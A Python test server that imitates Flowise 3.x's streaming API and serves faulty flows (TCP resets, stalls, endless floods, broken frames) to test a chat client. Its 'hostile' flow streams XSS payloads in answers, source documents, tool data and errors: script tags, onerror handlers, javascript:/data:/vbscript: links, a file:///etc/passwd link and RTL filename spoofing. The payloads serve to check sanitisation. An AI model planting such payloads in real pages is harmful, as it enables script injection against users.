"""A local HTTP server that speaks Flowise 3.x's wire format, for tests.

Most flows replay bytes recorded from a real Flowise 3.1.4 (``tests/fixtures/flowise-3.1.4``), cut into
small chunks so the client has to reassemble frames; the rest misbehave on purpose. Every request is
recorded so tests can assert what the server received.
"""

from __future__ import annotations

import base64
import functools
import io
import json
import random
import re
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from email.parser import BytesParser
from email.policy import HTTP
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

from flowise_wire import JSON_MEDIA_TYPE, SSE_HEADERS, end_frame, error_body, frame, json_body, thinking_frame

FIXTURES = Path(__file__).parent / "fixtures" / "flowise-3.1.4"
API_KEY = "sk-test-7f3a9c1e5b"
# A valid key without Flowise's chatflows:view permission: it may run flows but not read them.
RUN_ONLY_KEY = "sk-run-only-2d8e4a"


def fixture_bytes(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


# What the chaos flow's `error` faults send, as Flowise wraps a provider's failure.
CHAOS_ERROR = "503 The model is overloaded. Please try again later."
_CHAOS_WORDS = (  # noqa: SIM905
    "the flow reads each token as it arrives and keeps what came before a fault so that nothing "
    "already shown is lost while the page waits for the model to finish its answer"
).split()


@dataclass(frozen=True)
class Chaos:
    """Faults the "chaos" flow injects: shares of answers cut mid-stream by a TCP reset, by an
    ``error`` event, or by silence (a stall of ``stall_seconds``); the rest complete."""

    seed: int = 0
    reset: float = 0.10
    error: float = 0.10
    stall: float = 0.05
    stall_seconds: float = 10.0
    tokens: int = 300
    token_delay: float = 0.0

    def _rng(self, question: str) -> random.Random:
        # Drawn from the question, not from the order requests arrive in, so that concurrent
        # sessions get the same fault in the same turn on every run with this seed.
        return random.Random(f"{self.seed}:{question}")

    def fault(self, question: str) -> str | None:
        """``"reset"``, ``"error"``, ``"stall"``, or None for an answer that completes."""
        roll = self._rng(question).random()
        for kind, share in (("reset", self.reset), ("error", self.error), ("stall", self.stall)):
            if roll < share:
                return kind
            roll -= share
        return None

    def cut(self, question: str) -> int:
        """How many tokens are sent before the fault: always some, never all."""
        rng = self._rng(question)
        rng.random()
        margin = max(1, min(20, self.tokens // 4))
        return rng.randint(margin, self.tokens - margin)

    def answer(self, question: str) -> list[str]:
        """The tokens of the whole answer: paragraphs of plain words, different for each question."""
        rng = random.Random(question)
        tokens: list[str] = []
        while len(tokens) < self.tokens:
            words = [rng.choice(_CHAOS_WORDS) for _ in range(rng.randint(30, 60))]
            paragraph = [" " + w for w in words]
            paragraph[0] = ("\n\n" if tokens else "") + words[0].capitalize()
            tokens += [*paragraph[:-1], paragraph[-1] + "."]
        return tokens[: self.tokens]


@dataclass
class Received:
    method: str
    path: str
    headers: dict[str, str]
    body: Any


@dataclass
class FlowiseWire:
    """Handle to a running server: ``url``, what it ``received``, and ``stop()``."""

    url: str
    received: list[Received] = field(default_factory=list)
    chaos: Chaos = field(default_factory=Chaos)
    # (question, what the chaos flow did): "complete", "reset", "error", "stall" or "client-left".
    injected: list[tuple[str, str]] = field(default_factory=list)
    # Set when a client hangs up in the middle of a slow answer.
    client_left: threading.Event = field(default_factory=threading.Event)
    # Files kept per (flow, chat, name), as Flowise's storage keeps uploads and what flows make: (mime, bytes).
    stored: dict[tuple[str, str, str], tuple[str, bytes]] = field(default_factory=dict)
    # Messages per (flow, chat) in the shape GET /api/v1/chatmessage returns them, for the upload flows.
    history: dict[tuple[str, str], list[dict[str, Any]]] = field(default_factory=dict)
    # Chats whose human-input run is stopped at its Human Input node, waiting for a reply.
    stopped_chats: set[str] = field(default_factory=set)
    # Chats whose human-input-twice run is stopped at its second Human Input node.
    stopped_again: set[str] = field(default_factory=set)
    # Stored files whose reading hangs (get-upload-file), by name.
    stalled_files: set[str] = field(default_factory=set)
    # Flows whose chat settings (public-chatbotConfig) fail, as a server briefly unwell does.
    config_failures: set[str] = field(default_factory=set)
    _server: ThreadingHTTPServer | None = None
    _stopping: threading.Event = field(default_factory=threading.Event)

    def predictions(self, flow_id: str | None = None) -> list[Received]:
        return [
            r
            for r in self.received
            if r.path.startswith("/api/v1/prediction/") and (flow_id is None or r.path.endswith("/" + flow_id))
        ]

    def stop(self) -> None:
        self._stopping.set()
        if self._server:
            self._server.shutdown()
            self._server.server_close()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    wire: FlowiseWire
    token_delay = 0.0
    step_delay = 0.0

    def log_message(self, *args: Any) -> None:
        pass

    # -- plumbing ---------------------------------------------------------------------------------
    def _record(self) -> Any:
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length) if length else b""
        if self.headers.get("Content-Type", "").startswith("multipart/form-data"):
            body: Any = multipart(self.headers["Content-Type"], raw)
        else:
            try:
                body = json.loads(raw) if raw else None
            except ValueError:
                body = raw
        self.wire.received.append(Received(self.command, self.path, dict(self.headers.items()), body))
        return body

    def _flowise_error(self, status: int, message: str) -> None:
        self._json(status, error_body(status, message))

    def _send(self, status: int, body: bytes, content_type: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _json(self, status: int, obj: Any) -> None:
        self._send(status, json_body(obj), JSON_MEDIA_TYPE)

    def _start_stream(self, content_type: str = "text/event-stream") -> None:
        self.send_response(200)
        for name, value in {**SSE_HEADERS, "Content-Type": content_type}.items():
            self.send_header(name, value)
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()

    def _chunk(self, data: bytes) -> None:
        self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))
        self.wfile.flush()

    def _end_stream(self) -> None:
        self.wfile.write(b"0\r\n\r\n")
        self.wfile.flush()

    def _stream(self, body: bytes, chunk_size: int = 7) -> None:
        # Odd-sized chunks split frames, lines and UTF-8 characters, as a real network may.
        self._start_stream()
        for i in range(0, len(body), chunk_size):
            self._chunk(body[i : i + chunk_size])
            if self.token_delay:
                time.sleep(self.token_delay)
        self._end_stream()

    def _stream_frames(self, body: bytes) -> None:
        """Event by event, waiting ``step_delay`` after each step of the flow and ``token_delay``
        after each token, so that a person (or a test) sees the steps as they happen."""
        self._start_stream()
        for event in body.split(b"\n\n"):
            if not event.strip():
                continue
            self._chunk(event + b"\n\n")
            delay = self.token_delay if b'"event":"token"' in event else self.step_delay
            if delay:
                time.sleep(delay)
        self._end_stream()

    def _reset(self) -> None:
        # A zero linger time makes close() send a TCP reset instead of a normal end of stream.
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.connection.close()
        self.close_connection = True

    def _wait_for_shutdown(self, seconds: float) -> None:
        self.wire._stopping.wait(seconds)

    # -- routes -----------------------------------------------------------------------------------
    def do_GET(self) -> None:
        self._record()
        if self.path == "/api/v1/ping":
            self._send(200, b"pong", "text/plain")
        elif self.path.startswith("/api/v1/chatflows-streaming/"):
            flow_id = self.path.rsplit("/", 1)[1]
            self._json(200, {"isStreaming": flow_id != "json-only"})
        elif self.path.startswith("/api/v1/chatflows/"):
            self._chatflow(self.path.rsplit("/", 1)[1])
        elif self.path.startswith("/api/v1/chatmessage/"):
            # As Flowise: history only with an API key; the upload flows' own conversations, the
            # human-input flow's recorded one, stopped for approval (and so its run is, in this chat),
            # else the recorded conversation of the rag flow.
            flow_id = urlsplit(self.path).path.rsplit("/", 1)[1]
            chat_id = (parse_qs(urlsplit(self.path).query).get("chatId") or [""])[0]
            if self.headers.get("Authorization") != f"Bearer {API_KEY}":
                self._json(401, json.loads(fixture_bytes("chatmessage.nokey.json")))
            elif (flow_id, chat_id) in self.wire.history:
                self._json(200, self.wire.history[(flow_id, chat_id)])
            elif flow_id == "human-input":
                self.wire.stopped_chats.add(chat_id)
                self._json(200, json.loads(fixture_bytes("chatmessage.human-input-pending-history.json")))
            else:
                self._json(200, json.loads(fixture_bytes("chatmessage.rag-history.json")))
        elif self.path.startswith("/api/v1/chatflows-uploads/"):
            flow_id = self.path.rsplit("/", 1)[1]
            if flow_id not in _SCENARIOS:
                message = f"Error: chatflowsService.checkIfChatflowIsValidForUploads - Chatflow {flow_id} not found"
                self._flowise_error(500, message)
            else:
                self._json(200, UPLOADS_CONFIGS.get(flow_id, NO_UPLOADS))
        elif self.path.startswith("/api/v1/get-upload-file?"):
            query = {k: v[0] for k, v in parse_qs(urlsplit(self.path).query).items()}
            self._stored_file(query.get("chatflowId", ""), query.get("chatId", ""), query.get("fileName", ""))
        elif self.path.startswith("/api/v1/public-chatbotConfig/"):
            self._chatbot_config(self.path.rsplit("/", 1)[1])
        else:
            self._flowise_error(404, "Not found")

    def _chatbot_config(self, flow_id: str) -> None:
        """As Flowise 3.x (``getSinglePublicChatbotConfig``): the chat settings with the flow's uploads
        config in them; without it for a flow in CONFIG_WITHOUT_UPLOADS, as Flowise before 1.6."""
        if flow_id in self.wire.config_failures:
            self._flowise_error(500, "Error: chatflowsService.getSinglePublicChatbotConfig - database is locked")
        elif flow_id not in _SCENARIOS:
            self._flowise_error(
                500, f"Error: chatflowsService.getSinglePublicChatbotConfig - Chatflow {flow_id} not found"
            )
        elif flow_id in CONFIG_WITHOUT_UPLOADS:
            self._json(200, CHATBOT_CONFIGS.get(flow_id) or "OK")
        else:
            recorded = json.loads(fixture_bytes("public-chatbotConfig.json"))
            self._json(
                200,
                {
                    **CHATBOT_CONFIGS.get(flow_id, {}),
                    "uploads": UPLOADS_CONFIGS.get(flow_id, NO_UPLOADS),
                    "flowData": recorded["flowData"],
                    "isTTSEnabled": False,
                },
            )

    def _chatflow(self, flow_id: str) -> None:
        # Not whitelisted in Flowise: without a valid key its auth middleware answers 401, and a key
        # lacking chatflows:view gets the permission check's 403.
        authorization = self.headers.get("Authorization")
        if authorization == f"Bearer {RUN_ONLY_KEY}":
            self._json(403, {"message": "Forbidden"})
        elif authorization != f"Bearer {API_KEY}":
            self._json(401, {"error": "Unauthorized Access"})
        elif flow_id not in _SCENARIOS:
            message = f"Chatflow {flow_id} not found in the database!"
            self._flowise_error(404, message)
        else:
            self._json(200, chatflow(flow_id))

    def do_PUT(self) -> None:
        body = self._record()
        if self.path.startswith("/api/v1/chatmessage/abort/"):
            self._json(200, {"status": 200, "message": "Chat message aborted"})
        elif self.path.startswith("/api/v1/feedback/"):
            self._json(200, {**(body if isinstance(body, dict) else {}), "id": self.path.rsplit("/", 1)[1]})
        else:
            self._flowise_error(404, "Not found")

    def _stored_file(self, flow_id: str, chat_id: str, name: str) -> None:
        stored = self.wire.stored.get((flow_id, chat_id, name))
        if name in self.wire.stalled_files:
            self._wait_for_shutdown(60)  # a storage that hangs: no answer at all
        elif stored is None:
            self._flowise_error(500, "Error: streamStorageFile")
        else:
            self._send(200, stored[1], stored[0])

    def do_POST(self) -> None:
        body = self._record()
        if self.path.startswith("/api/v1/attachments/"):
            _, flow_id, chat_id = self.path.rsplit("/", 2)
            _attachments(self, flow_id, chat_id, body)
            return
        if self.path.startswith("/api/v1/vector/upsert/"):
            _vector_upsert(self, body)
            return
        if self.path == "/api/v1/openai-assistants-file/download":
            body = body if isinstance(body, dict) else {}
            self._stored_file(str(body.get("chatflowId")), str(body.get("chatId")), str(body.get("fileName")))
            return
        if self.path == "/api/v1/feedback":
            # As Flowise's feedback service: the stored entity, with the id a later PUT changes.
            self._json(200, {**(body if isinstance(body, dict) else {}), "id": f"feedback-{len(self.wire.received)}"})
            return
        if not self.path.startswith("/api/v1/prediction/"):
            self._send(404, b"<html><body>Cannot POST</body></html>", "text/html")
            return
        flow_id = self.path.rsplit("/", 1)[1]
        streaming = isinstance(body, dict) and body.get("streaming") is True
        scenario = _SCENARIOS.get(flow_id)
        if scenario is None:
            self._json(404, json.loads(fixture_bytes("unknown.json")))
        else:
            scenario(self, body if isinstance(body, dict) else {}, streaming)


def chatflow(flow_id: str) -> dict[str, Any]:
    """A flow as Flowise's GET /api/v1/chatflows/{id} returns it: the ChatFlow entity's columns."""
    return {
        "id": flow_id,
        "name": FLOW_NAMES.get(flow_id, f"Test flow {flow_id}"),
        "flowData": json.dumps({"nodes": [], "edges": []}),
        "deployed": False,
        "isPublic": False,
        "apikeyid": FLOW_API_KEY_IDS.get(flow_id),
        "chatbotConfig": None,
        "apiConfig": None,
        "analytic": None,
        "speechToText": None,
        "textToSpeech": None,
        "followUpPrompts": None,
        "category": None,
        "type": FLOW_TYPES.get(flow_id, "CHATFLOW"),
        "createdDate": "2026-01-05T10:00:00.000Z",
        "updatedDate": "2026-01-05T10:00:00.000Z",
        "mcpServerConfig": None,
        "webhookSecretConfigured": False,
        "workspaceId": "00000000-0000-4000-8000-000000000001",
    }


def _replay(stream_file: str, json_file: str) -> Callable[[_Handler, dict, bool], None]:
    def run(h: _Handler, body: dict, streaming: bool) -> None:
        if streaming:
            h._stream(fixture_bytes(stream_file))
        else:
            h._send(200, fixture_bytes(json_file), JSON_MEDIA_TYPE)

    return run


def _protected(h: _Handler, body: dict, streaming: bool) -> None:
    if h.headers.get("Authorization") == f"Bearer {API_KEY}":
        _replay("rag.stream.sse", "rag.json")(h, body, streaming)
    elif streaming:
        h._stream(fixture_bytes("protected.wrongkey.stream.sse"))
    else:
        h._send(500, fixture_bytes("protected.wrongkey.json"), "application/json")


def _server_error(h: _Handler, body: dict, streaming: bool) -> None:
    h._send(500, fixture_bytes("build-error.500.json"), JSON_MEDIA_TYPE)


def _quotes_key(h: _Handler, body: dict, streaming: bool) -> None:
    # A flow whose failing node quotes the credential it was called with, in Flowise's error JSON.
    key = h.headers.get("Authorization", "").removeprefix("Bearer ")
    message = f"Error: predictionsServices.buildChatflow - Error: Invalid key {key} for this tool"
    h._flowise_error(500, message)


def _error_midstream(h: _Handler, body: dict, streaming: bool) -> None:
    h._stream(
        frame("start", "")
        + frame("token", "Начинаю ответ 🙂 ")
        + frame("token", "and then")
        + frame("error", "Error: predictionsServices.buildChatflow - Error: Model quota exceeded")
        + end_frame()
    )


def _drop_midstream(h: _Handler, body: dict, streaming: bool) -> None:
    h._start_stream()
    h._chunk(frame("start", "") + frame("token", "Частичный ответ ") + frame("token", "before the drop"))
    # No terminating chunk: the connection just goes away.
    h.close_connection = True


def _stall(h: _Handler, body: dict, streaming: bool) -> None:
    h._start_stream()
    h._chunk(frame("start", "") + frame("token", "Started, then silence"))
    h._wait_for_shutdown(30)


def _hang(h: _Handler, body: dict, streaming: bool) -> None:
    h._wait_for_shutdown(30)


def _html_page(h: _Handler, body: dict, streaming: bool) -> None:
    h._send(200, b"<html><body><h1>502 Bad Gateway</h1></body></html>", "text/html")


def _no_end(h: _Handler, body: dict, streaming: bool) -> None:
    h._stream(frame("start", "") + frame("token", "An answer that never ends"))


def _slow(h: _Handler, body: dict, streaming: bool) -> None:
    h._start_stream()
    try:
        h._chunk(frame("start", ""))
        for i in range(400):
            h._chunk(frame("token", f"{i} "))
            time.sleep(0.05)
        h._chunk(end_frame())
        h._end_stream()
    except OSError:
        h.wire.client_left.set()


def _reset_twice(h: _Handler, body: dict, streaming: bool) -> None:
    """Resets the connection of a chat's first two questions before answering; answers the third."""
    attempts = [r for r in h.wire.predictions("reset-twice") if r.body.get("chatId") == body.get("chatId")]
    if len(attempts) <= 2:
        h._reset()
    else:
        h._stream(frame("start", "") + frame("token", f"Answered on attempt {len(attempts)} 🙂") + end_frame())


def _reset_midstream(h: _Handler, body: dict, streaming: bool) -> None:
    h._start_stream()
    h._chunk(frame("start", "") + frame("token", "Половина ") + frame("token", "ответа"))
    h._reset()


def _truncated_chunk(h: _Handler, body: dict, streaming: bool) -> None:
    h._start_stream()
    h._chunk(frame("start", "") + frame("token", "Кусок ответа "))
    rest = frame("token", "that is cut") + end_frame()
    # The chunk announces its full length, then the connection closes halfway through it.
    h.wfile.write(b"%x\r\n%s" % (len(rest), rest[: len(rest) // 2]))
    h.wfile.flush()
    h.close_connection = True


def _bad_json_line(h: _Handler, body: dict, streaming: bool) -> None:
    h._stream(
        frame("start", "")
        + frame("token", "Before ")
        + b'message:\ndata:{"event":"token","data":"never closed\n\n'
        + frame("token", "after.")
        + end_frame()
    )


def _endless(h: _Handler, body: dict, streaming: bool) -> None:
    """Tokens until the client hangs up, as from a flow stuck in a loop."""
    h._start_stream()
    try:
        h._chunk(frame("start", ""))
        while not h.wire._stopping.is_set():
            h._chunk(frame("token", "Бесконечно 🙂 "))
    except OSError:
        h.wire.client_left.set()


def _flood(h: _Handler, opening: bytes, content_type: str = "text/event-stream") -> None:
    """``opening``, then megabytes that never end a message, until the client hangs up."""
    h._start_stream(content_type)
    try:
        h._chunk(opening)
        while not h.wire._stopping.is_set():
            h._chunk(b"x" * 2**20)
    except OSError:
        h.wire.client_left.set()


def _giant_event(h: _Handler, body: dict, streaming: bool) -> None:
    """One event whose data line never ends."""
    _flood(h, frame("start", "") + frame("token", "Before the flood.") + b'message:\ndata:{"event":"token","data":"')


def _json_flood(h: _Handler, body: dict, streaming: bool) -> None:
    """A JSON answer that never ends."""
    _flood(h, b'{"text": "', "application/json")


def _echo(h: _Handler, body: dict, streaming: bool) -> None:
    """Answers with what it received, so a test can see the request through the UI."""
    chat_id = body.get("chatId", "")
    text = f"You asked: {body.get('question', '')}"
    meta = {"chatId": chat_id, "chatMessageId": f"msg-{len(h.wire.received)}", "sessionId": chat_id}
    if streaming:
        h._stream(frame("start", "") + frame("token", text) + frame("metadata", meta) + end_frame())
    else:
        h._json(200, {"text": text, **meta})


# Full File Upload, as Flowise's configuration dialog stores it in the flow's chatbotConfig.
FULL_FILE_UPLOAD = {"status": True, "allowedUploadFileTypes": "text/plain,text/csv", "pdfFile": {"usage": "perPage"}}


HUMAN_INPUT_NODE = "humanInputAgentflow_0"


def _human_input(h: _Handler, body: dict, streaming: bool) -> None:
    """The agentflow with a Human Input node (tests/integration/flows/human-input.json), as recorded:
    a question stops at that node with an ``action``; a reply with ``humanInput`` goes on from it,
    proceeding or rejecting, but only in a chat whose run stopped there, as in Flowise."""
    chat_id, reply = str(body.get("chatId", "")), body.get("humanInput")
    if not isinstance(reply, dict):
        h.wire.stopped_chats.add(chat_id)
        name = "human-input"
    elif (
        chat_id in h.wire.stopped_chats
        and reply.get("startNodeId") == HUMAN_INPUT_NODE
        and reply.get("type") in ("proceed", "reject")
    ):
        h.wire.stopped_chats.discard(chat_id)
        name = f"human-input.{reply['type']}"
    else:
        # The message and its wrapping as in human-input.not-stopped.stream.sse.
        message = f"Error: predictionsServices.buildChatflow - No previous execution found for session {chat_id}"
        if streaming:
            h._stream(frame("error", message) + end_frame())
        else:
            h._flowise_error(500, message)
        return
    if streaming:
        h._stream_frames(fixture_bytes(f"{name}.stream.sse"))
    else:
        h._send(200, fixture_bytes(f"{name}.json"), JSON_MEDIA_TYPE)


SECOND_HUMAN_INPUT_NODE = "humanInputAgentflow_1"


def _stopped_again() -> bytes:
    """The recorded proceed up to the Approval node finishing, then the recorded stop at a Human
    Input node, as a second such node ("Final check") stops the run after the first."""
    proceeded = fixture_bytes("human-input.proceed.stream.sse").split(b"\n\n")
    stop = fixture_bytes("human-input.stream.sse").split(b"\n\n")
    finished = next(i for i, f in enumerate(proceeded) if HUMAN_INPUT_NODE.encode() in f and b'"FINISHED"' in f)
    stopping = next(i for i, f in enumerate(stop) if HUMAN_INPUT_NODE.encode() in f and b'"INPROGRESS"' in f)
    second = b"\n\n".join(stop[stopping:]).replace(HUMAN_INPUT_NODE.encode(), SECOND_HUMAN_INPUT_NODE.encode())
    return b"\n\n".join(proceeded[: finished + 1]) + b"\n\n" + second.replace(b'"Approval"', b'"Final check"')


def _human_input_twice(h: _Handler, body: dict, streaming: bool) -> None:
    """The human-input agentflow with a second Human Input node after the first: proceeding at the
    first stops the run again, in the same answer; the reply to the second finishes it. Streaming."""
    chat_id, reply = str(body.get("chatId", "")), body.get("humanInput")
    reply = reply if isinstance(reply, dict) else {}
    if (
        chat_id in h.wire.stopped_chats
        and reply.get("startNodeId") == HUMAN_INPUT_NODE
        and reply.get("type") == "proceed"
    ):
        h.wire.stopped_chats.discard(chat_id)
        h.wire.stopped_again.add(chat_id)
        h._stream_frames(_stopped_again())
    elif chat_id in h.wire.stopped_again and reply.get("startNodeId") == SECOND_HUMAN_INPUT_NODE:
        h.wire.stopped_again.discard(chat_id)
        h.wire.stopped_chats.add(chat_id)  # as the human-input flow wants it for its replies
        _human_input(h, {**body, "humanInput": {**reply, "startNodeId": HUMAN_INPUT_NODE}}, streaming)
    else:
        _human_input(h, body, streaming)


TOOL_FAILURE = "Request failed with status code 503"


def _agentflow_error(h: _Handler, body: dict, streaming: bool) -> None:
    """An agentflow whose Agent node fails on a tool call, in the order buildAgentflow.ts and the
    Agent node stream it: the failed call in usedTools, the node and the run in ERROR, the error."""
    start = {
        "nodeId": "startAgentflow_0",
        "nodeLabel": "Start",
        "previousNodeIds": [],
        "status": "FINISHED",
        "data": {"id": "startAgentflow_0", "name": "startAgentflow", "output": {"question": body.get("question")}},
    }
    call = {"tool": "get_weather", "toolInput": {"city": "Paris"}, "toolOutput": ""}
    failed = {
        "nodeId": "agentAgentflow_0",
        "nodeLabel": "Weather Agent",
        "previousNodeIds": ["startAgentflow_0"],
        "status": "ERROR",
        "data": {"id": "agentAgentflow_0", "name": "agentAgentflow", "error": TOOL_FAILURE},
    }
    node = {"nodeId": "agentAgentflow_0", "nodeLabel": "Weather Agent"}
    h._stream_frames(
        frame("agentFlowEvent", "INPROGRESS")
        + frame("nextAgentFlow", {"nodeId": "startAgentflow_0", "nodeLabel": "Start", "status": "INPROGRESS"})
        + frame("nextAgentFlow", {"nodeId": "startAgentflow_0", "nodeLabel": "Start", "status": "FINISHED"})
        + frame("agentFlowExecutedData", [start])
        + frame("nextAgentFlow", {**node, "status": "INPROGRESS"})
        + frame("calledTools", [call])
        + frame("usedTools", [{**call, "error": TOOL_FAILURE}])
        + frame("nextAgentFlow", {**node, "status": "ERROR", "error": TOOL_FAILURE})
        + frame("agentFlowExecutedData", [start, failed])
        + frame("agentFlowEvent", "ERROR")
        + frame("error", f"Error: predictionsServices.buildChatflow - {TOOL_FAILURE}")
        + end_frame()
    )


# A supervisor and its worker, in the shapes Flowise's buildAgentGraph.ts streams them: the whole
# agentReasoning list again after each agent, nextAgent naming the worker it hands to, then the answer.
AGENT_REASONING = [
    {
        "agentName": "Supervisor",
        "messages": [],
        "next": "Researcher",
        "instructions": "Find how many people live in Paris.",
        "usedTools": [],
        "sourceDocuments": [],
        "artifacts": [],
        "state": {},
        "nodeId": "supervisor_0",
    },
    {
        "agentName": "Researcher",
        "messages": ["Paris had **2,102,650** inhabitants in 2023."],
        "usedTools": [{"tool": "search_population", "toolInput": {"city": "Paris"}, "toolOutput": "2102650 (2023)"}],
        "sourceDocuments": [
            {
                "pageContent": "Population légale de Paris en 2023 : 2 102 650 habitants.",
                "metadata": {"source": "insee.txt"},
            }
        ],
        "artifacts": [],
        "state": {},
        "nodeId": "worker_0",
    },
    {
        "agentName": "Supervisor",
        "messages": [],
        "next": "FINISH",
        "instructions": "The answer is ready.",
        "usedTools": [],
        "sourceDocuments": [],
        "artifacts": [],
        "state": {},
        "nodeId": "supervisor_0",
    },
]
AGENTS_ANSWER = "Около 2,1 миллиона человек: Paris had 2,102,650 inhabitants in 2023."


def _agents(h: _Handler, body: dict, streaming: bool) -> None:
    chat_id = body.get("chatId", "")
    meta = {
        "chatId": chat_id,
        "chatMessageId": f"msg-{len(h.wire.received)}",
        "question": body.get("question", ""),
        "sessionId": chat_id,
        "memoryType": "Buffer Memory",
    }
    h._stream_frames(
        frame("start", AGENT_REASONING[:1])
        + frame("agentReasoning", AGENT_REASONING[:1])
        + frame("nextAgent", "Researcher")
        + frame("agentReasoning", AGENT_REASONING[:2])
        + frame("agentReasoning", AGENT_REASONING)
        + b"".join(frame("token", AGENTS_ANSWER[i : i + 6]) for i in range(0, len(AGENTS_ANSWER), 6))
        + frame("usedTools", AGENT_REASONING[1]["usedTools"])
        + frame("sourceDocuments", AGENT_REASONING[1]["sourceDocuments"])
        + frame("metadata", meta)
        + end_frame()
    )


# As the owner sets them in Flowise (Configuration → Chat → Starter Prompts) and its widget reads them.
CHATBOT_CONFIGS = {
    "full-files": {"fullFileUpload": FULL_FILE_UPLOAD},
    "welcome": {
        "welcomeMessage": "Здравствуйте! 👋 Ask me *anything*.",
        "starterPrompts": {
            "0": {"prompt": "What can you do?"},
            "1": {"prompt": "Что такое **Flowise**?"},
            "2": {"prompt": ""},
        },
    },
}


FLOW_TYPES = {
    "agentflow": "AGENTFLOW",
    "human-input": "AGENTFLOW",
    "human-input-twice": "AGENTFLOW",
    "agentflow-error": "AGENTFLOW",
    "agents": "MULTIAGENT",
}


# Flow names may hold Markdown; the page must show them as written.
FLOW_NAMES = {"echo": "Echo *test* [flow]", "rag": "Facts about France"}


FOLLOW_UPS = ["Почему Париж?", "And *Lyon*?"]


def _follow_ups(h: _Handler, body: dict, streaming: bool) -> None:
    """Answers with follow-up prompts in its metadata, as a flow with them enabled does: a JSON string."""
    chat_id = body.get("chatId", "")
    meta = {
        "chatId": chat_id,
        "chatMessageId": f"msg-{len(h.wire.received)}",
        "question": body.get("question", ""),
        "sessionId": chat_id,
        "memoryType": "Buffer Memory",
        "followUpPrompts": json.dumps(FOLLOW_UPS),
    }
    h._stream(
        frame("start", "") + frame("token", f"About {body.get('question', '')}") + frame("metadata", meta) + end_frame()
    )


def _fails_once(h: _Handler, body: dict, streaming: bool) -> None:
    """Fails mid-answer the first time a conversation asks, answers the next time: a retry works."""
    chat_id = body.get("chatId", "")
    asked = [
        r for r in h.wire.predictions("fails-once") if isinstance(r.body, dict) and r.body.get("chatId") == chat_id
    ]
    if len(asked) == 1:
        _error_midstream(h, body, streaming)
    else:
        h._stream(frame("start", "") + frame("token", f"Second try worked: {body.get('question', '')}") + end_frame())


# Markup and link targets a flow could send to run script in, or lead away from, the chat page;
# each payload would set window.__pwned or open a dialog.
HOSTILE_ANSWER = [
    "Report on <b>bold</b> claims.\n\n",
    "<script>window.__pwned = 'script'; alert('script')</script>\n\n",
    "<img src=x onerror=\"window.__pwned='img'; alert('img')\"> and ",
    "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>\n\n",
    "[Click me](javascript:window.__pwned='link';alert('link')) · "
    "[Data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) · ",
    "[File](file:///etc/passwd) · [VB](vbscript:msgbox(1)) · [Hidden](jav&#x61;script&#58;alert('entity')) · ",
    "<javascript:alert('autolink')> · [ref link][r] · $\\href{javascript:alert('katex')}{tex}$\n\n",
    "Reversed: \u202eexe.txt\u202c and a bell\u0007.\n\n",
    "The [real docs](https://docs.flowiseai.com/) are fine.\n\n",
    "[r]: javascript:alert('reference')\n",
]
HOSTILE_SOURCES = [
    {
        "pageContent": "<script>alert('page')</script><img src=x onerror=alert('page-img')> \u202egnp.exe\u202c",
        "metadata": {
            "title": "<img src=x onerror=\"window.__pwned='title'\">",
            "source": "javascript:alert('source')",
            "url": "javascript:alert('url')",
        },
    },
    {
        "pageContent": "<iframe src=\"javascript:alert('page-iframe')\"></iframe>",
        "metadata": {
            "title": "[Evil](javascript:alert('title-link'))",
            "source": "<iframe src=javascript:alert(1)>",
            "url": "data:text/html,<script>alert('data')</script>",
        },
    },
]
HOSTILE_TOOLS = [
    {
        "tool": "<script>alert('tool')</script>",
        "toolInput": {"html": "<iframe src=\"javascript:alert('tool-input')\"></iframe>"},
        "toolOutput": "<img src=x onerror=\"window.__pwned='tool'\"> [x](javascript:alert('tool-output'))",
    }
]


HOSTILE_ERROR = "Error: <img src=x onerror=\"window.__pwned='error'\"> see [help](data:text/html,<b>x</b>) \u202eevil"


def _hostile(h: _Handler, body: dict, streaming: bool) -> None:
    tokens = b"".join(frame("token", token) for token in HOSTILE_ANSWER)
    h._stream(
        frame("start", "")
        + tokens
        + frame("sourceDocuments", HOSTILE_SOURCES)
        + frame("usedTools", HOSTILE_TOOLS)
        + frame("error", HOSTILE_ERROR)
        + end_frame()
    )


HUGE_TEXT = "BEGIN " + "lorem ipsum " * 1000 + "END-OF-TEXT"


def _huge(h: _Handler, body: dict, streaming: bool) -> None:
    """A source document and a tool output far longer than anyone reads in a chat."""
    h._stream(
        frame("start", "")
        + frame("token", "Short answer.")
        + frame("sourceDocuments", [{"pageContent": HUGE_TEXT, "metadata": {"source": "big.txt"}}])
        + frame("usedTools", [{"tool": "dump", "toolInput": {"n": 1}, "toolOutput": HUGE_TEXT}])
        + end_frame()
    )


def _chaos(h: _Handler, body: dict, streaming: bool) -> None:
    chaos, question, chat_id = h.wire.chaos, str(body.get("question", "")), body.get("chatId", "")
    fault = chaos.fault(question)
    tokens = chaos.answer(question)[: chaos.cut(question) if fault else None]
    reached_fault = False
    h._start_stream()
    try:
        h._chunk(frame("start", ""))
        for token in tokens:
            h._chunk(frame("token", token))
            time.sleep(chaos.token_delay)
        reached_fault = True
        # Counted when it starts: a stall lasts longer than the client waits.
        h.wire.injected.append((question, fault or "complete"))
        if fault == "reset":
            h._reset()  # as when a proxy or the server process dies mid-answer
        elif fault == "stall":
            h._wait_for_shutdown(chaos.stall_seconds)
            h.close_connection = True
        else:
            if fault == "error":
                h._chunk(frame("error", f"Error: predictionsServices.buildChatflow - Error: {CHAOS_ERROR}"))
            else:
                meta = {
                    "chatId": chat_id,
                    "chatMessageId": f"chaos-{len(h.wire.received)}",
                    "question": question,
                    "sessionId": chat_id,
                    "memoryType": "Buffer Memory",
                }
                h._chunk(frame("metadata", meta))
            h._chunk(end_frame())
            h._end_stream()
    except OSError:
        if not reached_fault:
            h.wire.injected.append((question, "client-left"))
        h.close_connection = True


